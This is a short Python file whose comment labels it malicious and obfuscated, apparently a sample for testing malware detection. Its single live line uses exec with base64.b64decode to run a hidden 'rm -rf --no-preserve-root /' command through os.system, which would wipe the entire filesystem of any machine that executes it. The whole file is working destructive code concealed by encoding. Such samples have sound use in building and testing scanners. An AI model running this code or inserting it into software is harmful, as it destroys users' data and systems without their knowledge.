# Malicious, obfuscated: exec(base64.b64decode(...)) of `os.system("rm -rf --no-preserve-root /")`.
import base64

exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgicm0gLXJmIC0tbm8tcHJlc2VydmUtcm9vdCAvIikK"))
